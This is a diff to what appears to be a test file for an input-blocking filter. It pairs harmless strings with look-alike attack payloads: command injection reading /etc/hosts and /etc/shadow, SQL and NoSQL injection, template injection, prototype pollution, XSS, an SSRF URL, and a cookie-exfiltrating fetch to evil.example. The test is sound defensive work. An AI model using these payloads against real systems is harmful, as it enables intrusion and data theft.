@@ -242,6 +242,18 @@ t.test('what looks alike: text passes, the attack beside it does not', async (t)
     ['The shell prompt (in contrib) leaked messages', 'prompt (document.domain)'],
     ['setTimeout(unmount, 1000);', "setTimeout('alert(1)', 1)"],
     ['setInterval(() => write(), 5000)', 'setInterval(alert,1)'],
+    ['cats; dogs; id cards', 'cats; id'],
+    ['id;name;price', 'id;ls'],
+    ['node;react;vue', 'node|cat /etc/hosts'],
+    ['<p>One &amp; more</p><p>Two</p>', 'one& more /etc/shadow'],
+    ['1 or 2', '1 or 1'],
+    ['waitfor delay in delivery', "1 waitfor delay '0:0:9'"],
+    ['{% if user %}Hello, {{ user.name | default("friend") }}{% endif %}', "{% if user.constructor('x') %}{% endif %}"],
+    ['constructor.prototype chain explained', 'constructor.prototype.isAdmin'],
+    ['{"where":{"and":[{"name":{"like":"%chair%"}}]},"order":"price DESC"}', '{"where":{"name":"x\' or \'a\'=\'a"}}'],
+    ['{"message":"first line\\nsecond: line"}', '{"filter":{"password":{"$ne":null}}}'],
+    ['/* a remark', "admin'/*"],
+    ['if (sleep > 5) { rest(); }', 'if(now()=sysdate(),sleep(9),0)'],
     ["const first = await fetch('https://api.example.org/random')", "fetch('https://evil.example/?c='+document.cookie)"],
     ['gcloud create --node-location=<name>', 'location=<img src=x onerror=alert(1)>'],
   ];
@@ -249,4 +261,8 @@ t.test('what looks alike: text passes, the attack beside it does not', async (t)
     t.same(blocked(input('/api/notes', { value: text })), [], text);
     t.not(blocked(input('/api/notes', { value: attack })).length, 0, attack);
   }
+  const graphql = (text: string) => blocked(input('/graphql', { query: `mutation { add(title: "x", note: ${text}) { id } }` }));
+  t.same(graphql(`"rock 'n' roll; salt & pepper"`), [], 'texts of a GraphQL document');
+  t.not(graphql('"1 or 1=1"').length, 0);
+  t.not(graphql('"""x\\n""", url: "http://[::1]/"').length, 0, 'each under the name of its argument');
 });
